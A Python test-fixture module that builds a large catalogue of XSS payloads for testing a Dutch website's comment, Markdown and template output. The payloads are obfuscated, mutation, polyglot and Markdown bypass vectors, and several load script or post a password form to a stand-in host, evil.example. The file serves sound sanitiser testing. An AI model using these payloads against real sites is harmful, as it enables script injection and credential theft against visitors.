"""XSS attack vectors for the Magnesiumwijzer write paths.

Written for this project: every payload, if it ever executed in a browser, sets the
sentinel ``window.__xss = 1`` (a few classic ones call ``alert`` instead), so the
browser half of the suite can load a page and check one global.

The vectors cover what public XSS lists cover, aimed at what this site actually does
with text: visitor comments (plain text, escaped, URLs linkified), staff Markdown
(rendered, then sanitised with an allow-list) and plain fields printed by templates.

``VECTORS`` is a tuple of :class:`Vector` (``id``, ``kind``, ``payload``), ``VECTOR_COUNT``
its length and ``VECTORS_BY_ID`` maps an id (also the pytest id) to its vector. Run this
module to print the count.
"""

import base64
from dataclasses import dataclass
from urllib.parse import quote

SENTINEL = "window.__xss=1"
SENTINEL_NAME = "__xss"


@dataclass(frozen=True)
class Vector:
    id: str
    kind: str
    payload: str

    def __str__(self):
        return self.id


_VECTORS: list[Vector] = []


def _add(kind, name, payload):
    _VECTORS.append(Vector(id=f"{kind}-{name}", kind=kind, payload=payload))


def _dec(text, *, semicolon=True, pad=0):
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(c):0{pad}d}{end}" if pad else f"&#{ord(c)}{end}" for c in text)


def _hex(text, *, semicolon=True, pad=0, upper=False):
    end = ";" if semicolon else ""
    x = "X" if upper else "x"
    return "".join(f"&#{x}{ord(c):0{pad}x}{end}" for c in text)


S = SENTINEL
JS = f"javascript:{S}"
SCRIPT = f"<script>{S}</script>"
B64_SCRIPT = base64.b64encode(SCRIPT.encode()).decode()
B64_SVG = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{S}"/>'.encode()
).decode()

# --- Event handlers on many tags ----------------------------------------------------------
_add("event", "img-onerror", f"<img src=x onerror={S}>")
_add("event", "img-onerror-quoted", f'<img src="x" onerror="{S}">')
_add("event", "img-mixed-case", f"<IMG SRC=x OnErRoR={S}>")
_add("event", "img-no-src", f"<img onerror={S} src>")
_add("event", "img-handler-entities", f'<img src=x onerror="{_dec(S)}">')
_add("event", "img-handler-hex-no-semicolon", f"<img src=x onerror={_hex(S, semicolon=False)}>")
_add("event", "img-onload-1px", f'<img src="https://example.com/1.gif" onload="{S}">')
_add("event", "body-onload", f"<body onload={S}>")
_add("event", "body-onpageshow", f"<body onpageshow={S}>")
_add("event", "body-onhashchange", f"<body onhashchange={S}><a href=#x>x</a>")
_add("event", "svg-onload", f"<svg onload={S}>")
_add("event", "svg-onload-slash", f"<svg/onload={S}>")
_add("event", "svg-animate-onbegin", f"<svg><animate onbegin={S} attributeName=x dur=1s>")
_add("event", "svg-set-onend", f"<svg><set attributeName=x dur=1ms onend={S}></set></svg>")
_add("event", "details-ontoggle", f"<details open ontoggle={S}><summary>x</summary></details>")
_add("event", "video-source-onerror", f"<video><source onerror={S} src=x></video>")
_add("event", "video-poster-onerror", f"<video poster=x onerror={S}></video>")
_add("event", "audio-onerror", f"<audio src=x onerror={S}></audio>")
_add("event", "audio-oncanplay", f"<audio autoplay oncanplay={S}><source src=x.mp3></audio>")
_add("event", "input-autofocus", f"<input autofocus onfocus={S}>")
_add("event", "input-image-onerror", f"<input type=image src=x onerror={S}>")
_add("event", "select-autofocus", f"<select autofocus onfocus={S}></select>")
_add("event", "textarea-autofocus", f"<textarea autofocus onfocus={S}></textarea>")
_add("event", "button-onclick", f'<button onclick="{S}">Klik</button>')
_add("event", "keygen-autofocus", f"<keygen autofocus onfocus={S}>")
_add("event", "marquee-onstart", f"<marquee onstart={S}>magnesium</marquee>")
_add("event", "marquee-onfinish", f"<marquee loop=1 width=0 onfinish={S}>x</marquee>")
_add("event", "iframe-onload", f"<iframe onload={S}></iframe>")
_add("event", "object-onerror", f"<object data=x onerror={S}></object>")
_add("event", "frameset-onload", f"<frameset onload={S}>")
_add("event", "style-onload", f"<style onload={S}></style>")
_add("event", "link-onload", f"<link rel=stylesheet href=x onload={S}>")
_add("event", "script-src-onerror", f"<script src=x onerror={S}></script>")
_add("event", "a-onmouseover", f'<a href="https://example.com" onmouseover="{S}">link</a>')
_add("event", "p-onclick", f'<p onclick="{S}">Klik op deze alinea</p>')
_add("event", "b-onmouseenter", f"<b onmouseenter={S}>vet</b>")
_add("event", "abbr-onfocus", f'<abbr title="Mg" tabindex=1 autofocus onfocus="{S}">Mg</abbr>')
_add("event", "div-onpointerenter", f"<div onpointerenter={S}>x</div>")
_add("event", "custom-tag-onfocus", f"<magnesium tabindex=1 autofocus onfocus={S}></magnesium>")
_add("event", "contenteditable-onfocus", f"<div contenteditable autofocus onfocus={S}>x</div>")
_add("event", "animationstart", f"<div style=animation-name:spin onanimationstart={S}></div>")
_add("event", "form-onsubmit", f"<form onsubmit={S}><button>Verstuur</button></form>")
_add("event", "isindex-onmouseover", f"<isindex type=image src=x onmouseover={S}>")
_add("event", "table-background", f"<table background=javascript:{S}><td>x</td></table>")
_add("event", "handler-newline-sep", f"<img\nsrc=x\nonerror={S}>")
_add("event", "handler-formfeed-sep", f"<img\x0csrc=x\x0conerror={S}>")
_add("event", "handler-cr-sep", f"<img\rsrc=x\ronerror={S}>")

# --- Script elements ------------------------------------------------------------------
_add("script", "plain", SCRIPT)
_add("script", "upper-case", f"<SCRIPT>{S}</SCRIPT>")
_add("script", "type-module", f'<script type="module">{S}</script>')
_add("script", "src-remote", '<script src="https://evil.example/x.js"></script>')
_add("script", "src-protocol-relative", "<script src=//evil.example/x.js></script>")
_add("script", "src-data", f"<script src=data:text/javascript,{quote(S)}></script>")
_add("script", "slash-attribute", "<script/xss src=https://evil.example/x.js></script>")
_add("script", "unclosed", f"<script>{S}")
_add("script", "unclosed-tag", "<script src=https://evil.example/x.js")
_add("script", "in-paragraph", f"Tekst vooraf.\n\n<p>{SCRIPT}</p>\n\nTekst achteraf.")
_add("script", "inside-markdown-emphasis", f"**{SCRIPT}**")
_add("script", "svg-script", f"<svg><script>{S}</script></svg>")
_add("script", "svg-script-href", f'<svg><script href="data:,{quote(S)}"/></svg>')
_add("script", "end-and-start", f"</script><script>{S}</script>")

# --- javascript: URLs, plain and encoded ---------------------------------------------
_add("jsurl", "a-href", f'<a href="{JS}">klik</a>')
_add("jsurl", "a-href-upper", f'<a href="JAVASCRIPT:{S}">klik</a>')
_add("jsurl", "a-href-mixed", f'<a href="JaVaScRiPt:{S}">klik</a>')
_add("jsurl", "a-href-unquoted", f"<a href=javascript:{S}>klik</a>")
_add("jsurl", "a-href-leading-space", f'<a href="   {JS}">klik</a>')
_add("jsurl", "a-href-tab", f'<a href="jav\tascript:{S}">klik</a>')
_add("jsurl", "a-href-newline", f'<a href="java\nscript:{S}">klik</a>')
_add("jsurl", "a-href-cr", f'<a href="javas\rcript:{S}">klik</a>')
_add("jsurl", "a-href-nul", f'<a href="java\x00script:{S}">klik</a>')
_add("jsurl", "a-href-leading-control", f'<a href="\x01\x02{JS}">klik</a>')
_add("jsurl", "a-href-entity-tab", f'<a href="jav&#x09;ascript:{S}">klik</a>')
_add("jsurl", "a-href-entity-newline", f'<a href="jav&#10;ascript:{S}">klik</a>')
_add("jsurl", "a-href-named-tab-newline", f'<a href="java&Tab;scr&NewLine;ipt:{S}">klik</a>')
_add("jsurl", "a-href-named-colon", f'<a href="javascript&colon;{S}">klik</a>')
_add("jsurl", "a-href-decimal", f'<a href="{_dec("javascript:")}{S}">klik</a>')
_add(
    "jsurl",
    "a-href-decimal-no-semicolon",
    f'<a href="{_dec("javascript:", semicolon=False)}{S}">x</a>',
)
_add(
    "jsurl",
    "a-href-decimal-zero-pad",
    f'<a href="{_dec("javascript:", semicolon=False, pad=7)}{S}">x</a>',
)
_add("jsurl", "a-href-hex", f'<a href="{_hex("javascript:")}{S}">klik</a>')
_add(
    "jsurl", "a-href-hex-no-semicolon", f'<a href="{_hex("javascript:", semicolon=False)}{S}">x</a>'
)
_add(
    "jsurl",
    "a-href-hex-zero-pad-upper",
    f'<a href="{_hex("javascript:", pad=6, upper=True)}{S}">x</a>',
)
_add("jsurl", "a-href-whole-url-encoded", f'<a href="{_dec(JS)}">klik</a>')
_add("jsurl", "a-href-entity-leading-control", f'<a href="&#14;{JS}">klik</a>')
_add("jsurl", "a-href-comment-payload", f'<a href="javascript:/*--></title>*/{S}//">klik</a>')
_add("jsurl", "a-title-and-href", f'<a title="Mg" href="{JS}" rel="nofollow">klik</a>')
_add("jsurl", "img-src", f'<img src="{JS}">')
_add("jsurl", "img-src-entities", f'<img src="{_dec("javascript:", semicolon=False)}{S}">')
_add("jsurl", "iframe-src", f'<iframe src="{JS}"></iframe>')
_add("jsurl", "form-action", f'<form action="{JS}"><input type=submit value=Verstuur></form>')
_add("jsurl", "button-formaction", f'<form><button formaction="{JS}">Verstuur</button></form>')
_add("jsurl", "input-formaction", f'<form><input type=submit formaction="{JS}"></form>')
_add("jsurl", "object-data", f'<object data="{JS}"></object>')
_add("jsurl", "embed-src", f'<embed src="{JS}">')
_add("jsurl", "area-href", f'<map name=m><area shape=rect coords=0,0,9,9 href="{JS}"></map>')
_add("jsurl", "svg-a-xlink", f'<svg><a xlink:href="{JS}"><text y=20>x</text></a></svg>')
_add("jsurl", "math-href", f'<math href="{JS}"><mtext>klik</mtext></math>')
_add("jsurl", "svg-use-href", f'<svg><use href="data:image/svg+xml;base64,{B64_SVG}#x"/></svg>')
_add("jsurl", "abbr-title-url", f'<abbr title="{JS}">Mg</abbr>')
_add("jsurl", "video-poster", f'<video poster="{JS}"></video>')

# --- vbscript: and data: ----------------------------------------------------------------
_add("scheme", "vbscript", '<a href="vbscript:msgbox(1)">klik</a>')
_add("scheme", "vbscript-upper", '<a href="VBSCRIPT:MsgBox(1)">klik</a>')
_add("scheme", "livescript", f'<a href="livescript:{S}">klik</a>')
_add("scheme", "data-html-base64", f'<a href="data:text/html;base64,{B64_SCRIPT}">klik</a>')
_add("scheme", "data-html-plain", f'<a href="data:text/html,{SCRIPT}">klik</a>')
_add("scheme", "data-upper", f'<a href="DaTa:text/html;base64,{B64_SCRIPT}">klik</a>')
_add("scheme", "data-svg", f'<a href="data:image/svg+xml;base64,{B64_SVG}">klik</a>')
_add("scheme", "data-iframe", f'<iframe src="data:text/html;base64,{B64_SCRIPT}"></iframe>')
_add("scheme", "data-object", f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>')
_add("scheme", "data-embed", f'<embed src="data:image/svg+xml;base64,{B64_SVG}">')
_add("scheme", "data-leading-space", f'<a href=" data:text/html;base64,{B64_SCRIPT}">x</a>')

# --- Malformed and nested tags --------------------------------------------------------
_add("malformed", "double-lt", f"<<script>{S};//<</script>")
_add("malformed", "nested-script", f"<scr<script>ipt>{S}</scr</script>ipt>")
_add("malformed", "nested-img", f"<im<img>g src=x onerror={S}>")
_add("malformed", "unclosed-attribute", f'<img src="x onerror={S}>')
_add("malformed", "unclosed-tag", f"<img src=x onerror={S} //")
_add("malformed", "backtick-attribute", f"<img src=`x` onerror=`{S}`>")
_add("malformed", "slash-separators", f"<img/src=x/onerror={S}>")
_add("malformed", "slash-before-handler", f'<img src="x"/onerror="{S}">')
_add("malformed", "attribute-breakout-double", f'"><img src=x onerror={S}>')
_add("malformed", "attribute-breakout-single", f"'><script>{S}</script>")
_add("malformed", "attribute-breakout-backtick", f"`><svg onload={S}>")
_add("malformed", "quoted-gt", f'<img """><script>{S}</script>">')
_add("malformed", "end-tag-attributes", f"<a>x</a onmouseover={S}>")
_add("malformed", "comment-breakout", f'<!--<img src="--><img src=x onerror={S}//">')
_add("malformed", "bogus-comment", f"<!--><img src=x onerror={S}>-->")
_add("malformed", "conditional-comment", f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->")
_add("malformed", "cdata", f"<![CDATA[><script>{S}</script>]]>")
_add("malformed", "processing-instruction", f'<?xml-stylesheet href="{JS}"?>')
_add("malformed", "doctype-breakout", f"<!DOCTYPE x [<!ENTITY a '{SCRIPT}'>]>&a;")
_add("malformed", "eval-src", "<img src=x:alert(1) onerror=eval(src)>")
_add("malformed", "no-space-after-tag", f"<svg\tonload={S}>")
_add("malformed", "duplicate-attributes", f'<a href="https://example.com" href="{JS}">x</a>')
_add("malformed", "attribute-no-value", f"<a href onclick={S}>x</a>")
_add("malformed", "null-in-tag-name", f"<scr\x00ipt>{S}</scr\x00ipt>")

# --- Mutation XSS: content that changes meaning when parsed again ------------------------
_add("mxss", "noscript-title", f'<noscript><p title="</noscript><img src=x onerror={S}>">')
_add("mxss", "noscript-style", f"<noscript><style></noscript><img src=x onerror={S}></style>")
_add("mxss", "svg-style", f'<svg><style><img src=x onerror="{S}"></style></svg>')
_add("mxss", "svg-p-style", f'<svg></p><style><a id="</style><img src=1 onerror={S}>">')
_add("mxss", "math-mtext-table", f"<math><mtext><table><mglyph><style><img src=x onerror={S}>")
_add(
    "mxss",
    "math-form-mglyph",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={S}>",
)
_add(
    "mxss",
    "math-textarea-path",
    f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={S} src=1>">',
)
_add("mxss", "template", f"<template><img src=x onerror={S}></template>")
_add("mxss", "template-style", f'<template><style></template><img src=x onerror="{S}"></style>')
_add("mxss", "style-breakout", f'<style><img src="</style><img src=x onerror={S}>">')
_add("mxss", "textarea-breakout", f'<textarea><img title="</textarea><img src=x onerror={S}>">')
_add("mxss", "title-breakout", f'<title><img title="</title><img src=x onerror={S}>"></title>')
_add("mxss", "xmp-breakout", f'<xmp><img title="</xmp><img src=x onerror={S}>"></xmp>')
_add("mxss", "noembed", f'<noembed><img title="</noembed><img src=x onerror={S}>"></noembed>')
_add("mxss", "noframes", f'<noframes><img title="</noframes><img src=x onerror={S}>">')
_add("mxss", "plaintext", f"<plaintext><img src=x onerror={S}>")
_add("mxss", "iframe-srcdoc", f'<iframe srcdoc="&lt;script&gt;parent.{S}&lt;/script&gt;"></iframe>')
_add("mxss", "iframe-content", f'<iframe><img title="</iframe><img src=x onerror={S}>"></iframe>')
_add("mxss", "select-style", f"<select><style></select><img src=x onerror={S}></style>")
_add("mxss", "svg-foreignobject", f"<svg><foreignObject><img src=x onerror={S}></foreignObject>")
_add("mxss", "svg-desc-namespace", f"<svg><desc><svg><p><style><img src=x onerror={S}>")
_add("mxss", "table-form", f"<table><form><tr><td><img src=x onerror={S}></td></tr></form></table>")
_add("mxss", "double-encoded-lt", f"&lt;img src=x onerror={S}&gt;")
_add("mxss", "double-encoded-amp", f"&amp;lt;script&amp;gt;{S}&amp;lt;/script&amp;gt;")

# --- Elements that change the document, load code or navigate -----------------------
_add("element", "base-href", '<base href="https://evil.example/">')
_add("element", "base-javascript", f'<base href="{JS}//">')
_add("element", "meta-refresh", f'<meta http-equiv="refresh" content="0;url={JS}">')
_add(
    "element",
    "meta-refresh-data",
    f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_SCRIPT}">',
)
_add("element", "meta-csp-override", '<meta http-equiv=Content-Security-Policy content="">')
_add("element", "link-import", '<link rel="import" href="https://evil.example/x.html">')
_add("element", "link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">')
_add("element", "object-remote", '<object data="https://evil.example/x.swf"></object>')
_add("element", "embed-remote", '<embed src="https://evil.example/x.svg" type="image/svg+xml">')
_add("element", "applet", '<applet code="X.class" codebase="https://evil.example/"></applet>')
_add("element", "iframe-remote", '<iframe src="https://evil.example/"></iframe>')
_add("element", "frame", f'<frameset><frame src="{JS}"></frameset>')
_add("element", "form-phishing", '<form action="https://evil.example/"><input name=password>')
_add("element", "svg-inline", f"<svg><g><text>Mg</text></g><handler>{S}</handler></svg>")
_add("element", "math-inline", f"<math><maction actiontype=statusline>{S}</maction></math>")

# --- CSS --------------------------------------------------------------------------------
_add("css", "style-expression", f'<p style="width:expression({S})">x</p>')
_add("css", "style-url-javascript", f"<p style=\"background:url('{JS}')\">x</p>")
_add("css", "style-entity-url", f'<p style="background:url(&#1;{JS})">x</p>')
_add("css", "style-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>')
_add("css", "style-behavior", '<p style="behavior:url(https://evil.example/x.htc)">x</p>')
_add("css", "style-comment-split", f'<p style="xss:expr/**/ession({S})">x</p>')
_add("css", "style-element-import", f"<style>@import '{JS}';</style>")
_add("css", "style-element-url", f'<style>body{{background:url("{JS}")}}</style>')
_add("css", "style-escape", f'<p style="background:url(\\6a avascript:{S})">x</p>')
_add("css", "link-stylesheet-js", f'<link rel=stylesheet href="{JS}">')

# --- Polyglots --------------------------------------------------------------------------
_add(
    "polyglot",
    "every-context",
    # Valid as a URL, inside an attribute (any quote), in text after raw-text elements,
    # and as Markdown: one of them should run wherever it lands.
    f"JavaScript://%0a{S};/*'\"`--></sTyle></tItle></TexTarea></noScript></xmp>"
    f"</scRipt><sVg/oNload={S}>[mg](jAvascript:{S})<!--*/",
)
_add(
    "polyglot",
    "quotes-and-tags",
    f"'\"--></style></script></textarea></title><svg/onload='{S}'>",
)
_add(
    "polyglot",
    "markdown-and-html",
    f"[a](javascript:{S})<img src=x onerror={S}>`<script>{S}</script>`",
)
_add(
    "polyglot",
    "url-and-handler",
    f"javascript:\"/*'/*`/*--></noscript></title><img src=x onerror={S}>",
)
_add("polyglot", "template-literal", f"${{{S}}}{{{{constructor.constructor('{S}')()}}}}")

# --- Markdown tricks (staff paths render Markdown; in comments they are plain text) ---
_add("markdown", "link-javascript", f"[klik](javascript:{S})")
_add("markdown", "link-mixed-case", f"[klik](JaVaScRiPt:{S})")
_add("markdown", "link-leading-space", f"[klik]( javascript:{S})")
_add("markdown", "link-angle-destination", f"[klik](<javascript:{S}>)")
_add("markdown", "link-entity", f"[klik](&#106;avascript:{S})")
_add("markdown", "link-entity-colon", f"[klik](javascript&#58;{S})")
_add("markdown", "link-percent", f"[klik](java%73cript:{S})")
_add("markdown", "link-newline-destination", f"[klik](java\nscript:{S})")
_add("markdown", "link-vbscript", "[klik](vbscript:msgbox(1))")
_add("markdown", "link-data", f"[klik](data:text/html;base64,{B64_SCRIPT})")
_add("markdown", "link-title-breakout", f'[klik](https://example.com "x\\" onmouseover=\\"{S}")')
_add("markdown", "link-title-raw-quote", f'[klik](https://example.com "x" onmouseover="{S}")')
_add("markdown", "link-title-single-quote", f"[klik](https://example.com 'a' onclick='{S}')")
_add("markdown", "reference-link", f"Zie [de bron][r].\n\n[r]: javascript:{S}")
_add("markdown", "reference-angle", f'Zie [de bron][r].\n\n[r]: <javascript:{S}> "titel"')
_add(
    "markdown",
    "reference-title-breakout",
    f'[x][r]\n\n[r]: https://example.com "a\\" onfocus=\\"{S}"',
)
_add("markdown", "image-javascript", f"![plaatje](javascript:{S})")
_add("markdown", "image-title-breakout", f'![x](https://example.com/i.png "t\\" onerror=\\"{S}")')
_add("markdown", "image-alt-breakout", f'![x" onerror="{S}](https://example.com/i.png)')
_add("markdown", "autolink-javascript", f"<javascript:{S}>")
_add("markdown", "autolink-vbscript", "<vbscript:msgbox(1)>")
_add("markdown", "autolink-data", f"<data:text/html;base64,{B64_SCRIPT}>")
_add("markdown", "autolink-http-breakout", f'<https://example.com/"onmouseover="{S}">')
_add("markdown", "autolink-mailto-payload", f"<mailto:a@example.com?body=<script>{S}</script>>")
_add("markdown", "raw-html-block", f'<div onclick="{S}">\n\n**vet**\n\n</div>')
_add("markdown", "raw-html-in-link-text", f"[<img src=x onerror={S}>](https://example.com)")
_add("markdown", "nested-links", f"[[klik](javascript:{S})](https://example.com)")
_add("markdown", "code-span", f"`<script>{S}</script>`")
_add("markdown", "fenced-code", f"```html\n<script>{S}</script>\n<img src=x onerror={S}>\n```")
_add("markdown", "indented-code", f"    <svg onload={S}>")
_add("markdown", "html-in-list", f"- punt\n- <img src=x onerror={S}>\n- <a href='{JS}'>x</a>")
_add("markdown", "html-in-blockquote", f"> <iframe src='{JS}'></iframe>")
_add("markdown", "emphasis-around-tag", f"*<svg onload={S}>*")
_add("markdown", "heading-html", f"## <img src=x onerror={S}>")
_add("markdown", "attr-list-syntax", f'Tekst\n{{: onclick="{S}" }}')
_add("markdown", "javascript-comment-link", f"[klik](javascript://example.com/%0a{S})")
_add("markdown", "footnote-like", f"[^x]: <script>{S}</script>")
_add("markdown", "escaped-brackets", f"\\<script\\>{S}\\</script\\>")

# --- Unicode look-alikes and invisible characters --------------------------------------
_add("unicode", "fullwidth-script", f"\uff1cscript\uff1e{S}\uff1c/script\uff1e")
_add("unicode", "fullwidth-img", f"\uff1cimg src=x onerror={S}\uff1e")
_add("unicode", "fullwidth-quote-breakout", f"\uff02\uff1e\uff1csvg onload={S}\uff1e")
_add("unicode", "fullwidth-javascript", f"[klik](\uff4a\uff41\uff56\uff41script:{S})")
_add("unicode", "angle-quotation-marks", f"\u2039script\u203a{S}\u2039/script\u203a")
_add("unicode", "small-less-than", f"\ufe64script\ufe65{S}\ufe64/script\ufe65")
_add("unicode", "zero-width-space", f'<a href="java\u200bscript:{S}">klik</a>')
_add("unicode", "zero-width-joiner", f"[klik](java\u200dscript:{S})")
_add("unicode", "zero-width-non-joiner-tag", f"<scr\u200cipt>{S}</scr\u200cipt>")
_add("unicode", "rtl-override", f"\u202e<img src=x onerror={S}>\u202c gpj.exe")
_add("unicode", "bom-prefix", f'<a href="\ufeff{JS}">klik</a>')
_add("unicode", "nbsp-prefix", f'<a href="\u00a0{JS}">klik</a>')
_add("unicode", "soft-hyphen", f"[klik](java\u00adscript:{S})")
_add("unicode", "line-separator", f"<img src=x\u2028onerror={S}>")
_add("unicode", "c1-control-next-line", f'<a href="\x85{JS}">klik</a>')
_add("unicode", "combining-character", f"<s\u0336cript>{S}</script>")
_add("unicode", "turkish-dotless-i", f"<scr\u0131pt>{S}</scr\u0131pt>")
_add("unicode", "long-s-ligature", f'<a href="java\u017fcript:{S}">klik</a>')

# --- Linkifier: bare text that turns into links ---------------------------------------
_add("linkify", "data-authority", f"data://example.com/text/html;base64,{B64_SCRIPT}")
_add("linkify", "javascript-authority", f"javascript://example.com/%0a{S}")
_add("linkify", "ftp-url", "Zie ftp://example.com/magnesium.exe")
_add("linkify", "feed-url", "Abonneer: feed://example.com/rss")
_add("linkify", "url-quote-breakout", f'https://example.com/"onmouseover="{S}"')
_add("linkify", "url-single-quote-breakout", f"https://example.com/'onmouseover='{S}'")
_add("linkify", "url-with-script", f"https://example.com/<script>{S}</script>")
_add("linkify", "www-breakout", f'www.example.com/"><img src=x onerror={S}>')
_add("linkify", "url-query-svg", f"http://example.com/?q=<svg/onload={S}>")
_add("linkify", "url-entity-quote", f"https://example.com/&quot;onmouseover=&quot;{S}")
_add("linkify", "email-quoted-local", f'"<script>{S}</script>"@example.com')

# --- Very long values -----------------------------------------------------------------
_add(
    "long",
    "title-padding",
    f'<a href="https://example.com" title="{"A" * 3000}" onclick="{S}">x</a>',
)
_add("long", "src-padding", f'<img src="{"x" * 3500}" onerror="{S}">')
_add("long", "javascript-whitespace-padding", f'<a href="{" " * 2000}{JS}">klik</a>')
_add("long", "entity-zero-padding", f'<a href="&#{"0" * 1000}106;avascript:{S}">klik</a>')
_add(
    "long", "many-attributes", "<img " + " ".join(f"a{i}=x" for i in range(400)) + f" onerror={S}>"
)
_add("long", "deep-nesting", "<b>" * 300 + f"<img src=x onerror={S}>" + "</b>" * 300)
_add("long", "url-in-text", "https://example.com/" + "a" * 3000 + f'"onmouseover="{S}')

VECTORS: tuple[Vector, ...] = tuple(_VECTORS)
VECTOR_COUNT = len(VECTORS)
VECTORS_BY_ID = {vector.id: vector for vector in VECTORS}

_ids = [v.id for v in VECTORS]
assert len(set(_ids)) == len(_ids), "vector ids must be unique"
_payloads = [v.payload for v in VECTORS]
assert len(set(_payloads)) == len(_payloads), "vector payloads must be unique"
del _ids, _payloads

if __name__ == "__main__":
    print(f"{VECTOR_COUNT} XSS vectors")
